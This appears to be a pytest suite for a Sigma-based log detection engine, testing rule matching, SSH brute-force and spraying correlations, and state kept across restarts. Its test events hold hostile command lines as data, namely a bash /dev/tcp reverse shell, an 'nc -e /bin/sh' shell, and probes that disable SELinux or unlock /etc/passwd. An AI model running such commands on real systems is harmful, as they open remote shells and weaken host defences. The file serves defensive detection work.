"""The engine: Sigma semantics on our events, correlations, gates, state across restarts."""

from __future__ import annotations

import base64
import collections
import re
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from secops.detect import engine as engine_module
from secops.detect.engine import Engine, load_rules, make_plan
from secops.detect.testing import parse_case
from secops.ingest.parse import parse_line
from tests.conftest import CORPORA

OPENSSH = CORPORA / "loghub" / "OpenSSH_2k.log"
SIGMA_LINUX = CORPORA / "sigma-linux"
REF = datetime(2026, 11, 21, tzinfo=UTC)


def rules_from(tmp_path: Path, text: str, name: str = "r.yml") -> Any:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return load_rules([path])


def one_rule(tmp_path: Path, detection: str, logsource: str = "{product: linux}") -> Any:
    body = textwrap.indent(textwrap.dedent(detection), "  ")
    return rules_from(
        tmp_path,
        f"title: t\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {logsource}\n"
        f"level: high\ndetection:\n{body}",
    )


def event(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {"@timestamp": "2026-11-21T08:00:00+00:00", "event": {"id": "e1"}}
    for dotted, value in fields.items():
        node = doc
        *parents, last = dotted.split("__")
        for part in parents:
            node = node.setdefault(part, {})
        node[last] = value
    return doc


def matches(ruleset: Any, doc: dict[str, Any]) -> bool:
    return bool(Engine(ruleset).process(doc))


CASES = [
    # (detection, matching event fields, not matching)
    (
        "sel:\n  process.executable|endswith: ['/bash', '/sh']\ncondition: sel",
        {"process__executable": "/USR/BIN/BASH"},
        {"process__executable": "/usr/bin/bashful"},
    ),
    (
        "sel:\n  process.command_line|contains|all: ['-i', '/dev/tcp/']\ncondition: sel",
        {"process__command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
        {"process__command_line": "bash -i"},
    ),
    (
        "sel:\n  process.command_line|startswith: 'curl '\ncondition: sel",
        {"process__command_line": "CURL http://x"},
        {"process__command_line": "xcurl http://x"},
    ),
    (
        "sel:\n  process.command_line|re: 'nc .*-e\\s'\ncondition: sel",
        {"process__command_line": "/bin/nc 10.0.0.1 -e /bin/sh"},
        {"process__command_line": "nc 10.0.0.1 -x"},
    ),
    (
        "sel:\n  process.command_line|cased: 'ABC'\ncondition: sel",
        {"process__command_line": "ABC"},
        {"process__command_line": "abc"},
    ),
    (
        "sel:\n  source.ip|cidr: 10.0.0.0/8\ncondition: sel",
        {"source__ip": "10.20.30.40"},
        {"source__ip": "11.0.0.1"},
    ),
    (
        "sel:\n  user.name: null\ncondition: sel",
        {"process__name": "x"},
        {"user__name": "root"},
    ),
    (
        "sel:\n  user.name|exists: true\ncondition: sel",
        {"user__name": "root"},
        {"process__name": "x"},
    ),
    (
        "sel:\n  user.name|fieldref: user.effective.name\ncondition: sel",
        {"user__name": "root", "user__effective": {"name": "ROOT"}},
        {"user__name": "alice", "user__effective": {"name": "root"}},
    ),
    (
        "sel:\n  process.pid|gte: 1000\ncondition: sel",
        {"process__pid": 1201},
        {"process__pid": 999},
    ),
    (
        "sel:\n  process.command_line|base64offset|contains: 'curl'\ncondition: sel",
        {"process__command_line": "echo " + base64.b64encode(b"xx curl http://a").decode()},
        {"process__command_line": "echo " + base64.b64encode(b"wget http://a").decode()},
    ),
    (
        "sel:\n  process.command_line|windash|contains: ' -enc '\ncondition: sel",
        {"process__command_line": "pwsh /enc AAAA"},
        {"process__command_line": "pwsh -encodedcommand AAAA"},
    ),
    (
        "kw:\n  - 'segfault at'\ncondition: kw",
        {"event__original": "kernel: a.out[1]: SEGFAULT AT 0"},
        {"event__original": "kernel: all fine"},
    ),
    (
        "sel:\n  process.args: 'x?z'\ncondition: sel",
        {"process__args": ["a", "XYZ"]},
        {"process__args": ["a", "xyyz"]},
    ),
    (
        "sel:\n  auditd.records.type: EXECVE\n  auditd.records.a0: chmod\ncondition: sel",
        {"auditd__records": [{"type": "SYSCALL"}, {"type": "EXECVE", "a0": "chmod"}]},
        {"auditd__records": [{"type": "EXECVE", "a0": "chown"}]},
    ),
    (
        "a:\n  user.name: root\nb:\n  process.name: sshd\ncondition: a and not b",
        {"user__name": "root", "process__name": "bash"},
        {"user__name": "root", "process__name": "sshd"},
    ),
    (
        "sel_a:\n  user.name: a\nsel_b:\n  user.name: b\ncondition: 1 of sel_*",
        {"user__name": "b"},
        {"user__name": "c"},
    ),
]


@pytest.mark.parametrize(("detection", "good", "bad"), CASES)
def test_sigma_semantics(tmp_path: Path, detection: str, good: dict, bad: dict) -> None:
    ruleset = one_rule(tmp_path, detection)
    assert not ruleset.problems, ruleset.problems
    assert matches(ruleset, event(**good))
    assert not matches(ruleset, event(**bad))


def test_unsupported_features_are_named(tmp_path: Path) -> None:
    ruleset = one_rule(tmp_path, "sel:\n  user.name|expand: '%admins%'\ncondition: sel")
    assert not ruleset.rules
    assert "placeholder %admins%" in ruleset.problems[0].feature
    corr = rules_from(
        tmp_path,
        """
        title: base
        name: base
        logsource: {product: linux}
        detection: {sel: {user.name: x}, condition: sel}
        ---
        title: too few
        correlation:
          type: event_count
          rules: [base]
          group-by: [host.name]
          timespan: 5m
          condition: {lt: 3}
        """,
    )
    assert any("correlation condition lt" in p.feature for p in corr.problems)


def test_broken_rule_file_names_the_file(tmp_path: Path) -> None:
    ruleset = rules_from(tmp_path, "title: x\ndetection: [", name="bad.yml")
    assert ruleset.problems and ruleset.problems[0].path.endswith("bad.yml")


BRUTE = """
title: SSH failed login
name: ssh_failed_login
id: 00000000-0000-4000-8000-0000000000b1
logsource: {product: linux, service: sshd}
detection:
  sel: {event.action: ssh_login, event.outcome: failure}
  condition: sel
level: low
tags: [attack.t1110.001, mlps.ce.ia.b]
---
title: SSH brute force
id: 00000000-0000-4000-8000-0000000000b2
correlation:
  type: event_count
  rules: [ssh_failed_login]
  group-by: [source.ip, host.name]
  timespan: 2m
  condition: {gte: 8}
level: high
"""


def expected_brute_force_sources(lines: list[str]) -> set[str]:
    """Sources with ≥ 8 'Failed …' lines within 120 s, computed without the engine."""
    times: dict[str, list[float]] = collections.defaultdict(list)
    for line in lines:
        found = re.search(
            r"^(\w{3} +\d+ [\d:]+) \S+ sshd\[\d+\]: Failed \S+ for .* from (\S+) port", line
        )
        if found:
            stamp = datetime.strptime("2025 " + found.group(1), "%Y %b %d %H:%M:%S")
            times[found.group(2)].append(stamp.timestamp())
    sources = set()
    for ip, stamps in times.items():
        stamps.sort()
        start = 0
        for end in range(len(stamps)):
            while stamps[end] - stamps[start] > 120:
                start += 1
            if end - start + 1 >= 8:
                sources.add(ip)
                break
    return sources


def test_brute_force_on_openssh_corpus(tmp_path: Path) -> None:
    """Acceptance: fires for every source with ≥ 8 failures in 120 s, and for no other."""
    ruleset = rules_from(tmp_path, BRUTE)
    engine = Engine(ruleset)
    lines = OPENSSH.read_text(encoding="utf-8").splitlines()
    fired: set[str] = set()
    for line in lines:
        for detection in engine.process(parse_line(line, received=REF, tz=UTC)):
            assert detection.rule.title == "SSH brute force"
            assert detection.count == 8
            fired.add(detection.group["source.ip"])
    expected = expected_brute_force_sources(lines)
    print("brute-force sources:", ", ".join(sorted(fired)))
    assert expected, "the corpus has brute-force sources"
    assert fired == expected


def failures(ip: str, start: datetime, n: int, step: int = 5) -> list[dict[str, Any]]:
    docs = []
    for i in range(n):
        when = start + timedelta(seconds=step * i)
        docs.append(
            {
                "@timestamp": when.isoformat(),
                "event": {
                    "id": f"{ip}-{when.timestamp()}",
                    "dataset": "sshd",
                    "action": "ssh_login",
                    "outcome": "failure",
                    "category": ["authentication"],
                },
                "source": {"ip": ip},
                "host": {"name": "lab01"},
            }
        )
    return docs


def test_event_count_slides_and_fires_once_per_window(tmp_path: Path) -> None:
    ruleset = rules_from(tmp_path, BRUTE)
    engine = Engine(ruleset)
    spread = failures("203.0.113.1", REF, 8, step=20)  # 8 in 140 s: never 8 in 120 s
    assert not [d for e in spread for d in engine.process(e)]
    burst = failures("203.0.113.2", REF, 17, step=1)
    fired = [d for e in burst for d in engine.process(e)]
    assert len(fired) == 2  # at the 8th and the 16th; the window starts empty after firing
    assert fired[0].group == {"source.ip": "203.0.113.2", "host.name": "lab01"}
    assert len(fired[0].event_ids) == 8 and fired[0].host == "lab01"


def test_state_survives_a_restart_mid_window(tmp_path: Path) -> None:
    ruleset = rules_from(tmp_path, BRUTE)
    docs = failures("198.51.100.7", REF, 8)
    first = Engine(ruleset)
    assert not [d for e in docs[:5] for d in first.process(e)]
    saved = first.state()
    second = Engine(load_rules([tmp_path / "r.yml"]), saved)
    fired = [d for e in docs[5:] for d in second.process(e)]
    assert len(fired) == 1 and fired[0].count == 8
    fresh = Engine(load_rules([tmp_path / "r.yml"]))  # without the state it cannot fire
    assert not [d for e in docs[5:] for d in fresh.process(e)]


def test_groups_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ruleset = rules_from(tmp_path, BRUTE)
    engine = Engine(ruleset)
    window = next(iter(engine._windows.values()))
    window.max_groups = 100
    for i in range(1000):
        engine.process(failures(f"10.1.{i // 250}.{i % 250}", REF, 1)[0])
    assert engine.groups() == 100
    assert engine.evicted() == 900


SPRAY_AND_SEQUENCE = """
title: failed
name: failed
logsource: {product: linux, service: sshd}
detection:
  sel: {event.action: ssh_login, event.outcome: failure}
  condition: sel
---
title: accepted
name: accepted
logsource: {product: linux, service: sshd}
detection:
  sel: {event.action: ssh_login, event.outcome: success}
  condition: sel
---
title: spray
id: 00000000-0000-4000-8000-0000000000c1
correlation:
  type: value_count
  rules: [failed]
  group-by: [source.ip]
  timespan: 10m
  condition: {field: user.name, gte: 3}
---
title: failures then success
id: 00000000-0000-4000-8000-0000000000c2
correlation:
  type: temporal_ordered
  rules: [failed, accepted]
  group-by: [source.ip]
  timespan: 5m
---
title: both in any order
id: 00000000-0000-4000-8000-0000000000c3
correlation:
  type: temporal
  rules: [accepted, failed]
  group-by: [source.ip]
  timespan: 5m
"""


def sshd(minute: int, what: str, user: str, ip: str) -> str:
    return (
        f"Nov 21 08:{minute:02d}:00 lab01 sshd[1]: {what} password for {user} from {ip} port 1 ssh2"
    )


def fired_titles(tmp_path: Path, lines: list[str]) -> collections.Counter[str]:
    ruleset = rules_from(tmp_path, SPRAY_AND_SEQUENCE)
    engine = Engine(ruleset)
    return collections.Counter(d.rule.title for e in parse_case(lines) for d in engine.process(e))


def test_value_count_counts_distinct_values(tmp_path: Path) -> None:
    ip = "192.0.2.5"
    same_user = [sshd(i, "Failed", "root", ip) for i in range(5)]
    assert fired_titles(tmp_path, same_user)["spray"] == 0
    three_users = [sshd(i, "Failed", u, ip) for i, u in enumerate(["a", "b", "c"])]
    assert fired_titles(tmp_path, three_users)["spray"] == 1
    too_slow = [sshd(i * 6, "Failed", u, ip) for i, u in enumerate(["a", "b", "c"])]
    assert fired_titles(tmp_path, too_slow)["spray"] == 0


def test_temporal_kinds(tmp_path: Path) -> None:
    ip = "192.0.2.9"
    ordered = [sshd(0, "Failed", "root", ip), sshd(1, "Accepted", "root", ip)]
    got = fired_titles(tmp_path, ordered)
    assert got["failures then success"] == 1 and got["both in any order"] == 1
    reversed_ = [sshd(0, "Accepted", "root", ip), sshd(1, "Failed", "root", ip)]
    got = fired_titles(tmp_path, reversed_)
    assert got["failures then success"] == 0 and got["both in any order"] == 1
    late = [sshd(0, "Failed", "root", ip), sshd(9, "Accepted", "root", ip)]
    assert fired_titles(tmp_path, late)["failures then success"] == 0
    other_source = [sshd(0, "Failed", "root", ip), sshd(1, "Accepted", "root", "192.0.2.10")]
    assert fired_titles(tmp_path, other_source)["failures then success"] == 0


def test_public_corpus_compiles_and_gates_change_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every public rule compiles; gated runs find exactly what running every rule finds."""
    ruleset = load_rules([SIGMA_LINUX])
    assert len(ruleset.rules) == 214 and not ruleset.problems
    lines = OPENSSH.read_text(encoding="utf-8").splitlines()[:400]
    audit = (Path(__file__).resolve().parents[2] / "files" / "ingest" / "audit.log").read_text()
    docs = parse_case(lines + audit.splitlines())
    probes = [
        event(
            event__dataset="auditd",
            event__category=["process"],
            event__type=["start"],
            process__executable=exe,
            process__command_line=cmd,
        )
        for exe, cmd in [
            ("/usr/bin/chattr", "chattr -i /etc/passwd"),
            ("/usr/bin/base64", "base64 -d payload"),
            ("/usr/bin/crontab", "crontab -r"),
            ("/usr/sbin/setenforce", "setenforce 0"),
            ("/usr/bin/ls", "ls -l"),
        ]
    ]
    docs += probes
    gated = [sorted(d.rule.id for d in Engine(ruleset).process(doc)) for doc in docs]

    def no_gates(rules: Any) -> Any:
        for rule in rules:
            rule.gate = None
        return make_plan(rules)

    monkeypatch.setattr(engine_module, "make_plan", no_gates)
    plain = [sorted(d.rule.id for d in Engine(ruleset).process(doc)) for doc in docs]
    assert gated == plain
    assert sum(map(len, gated)) >= 4  # the probes do match public rules


def test_correlation_naming_a_missing_rule_is_reported(tmp_path: Path) -> None:
    ruleset = rules_from(
        tmp_path,
        """
        title: counts nothing
        correlation:
          type: event_count
          rules: [no_such_rule]
          group-by: [host.name]
          timespan: 5m
          condition: {gte: 3}
        """,
    )
    assert not ruleset.correlations
    features = [p.feature for p in ruleset.problems]
    assert any("no_such_rule" in f for f in features), features
    assert any(p.title == "counts nothing" and "not run" in p.feature for p in ruleset.problems)
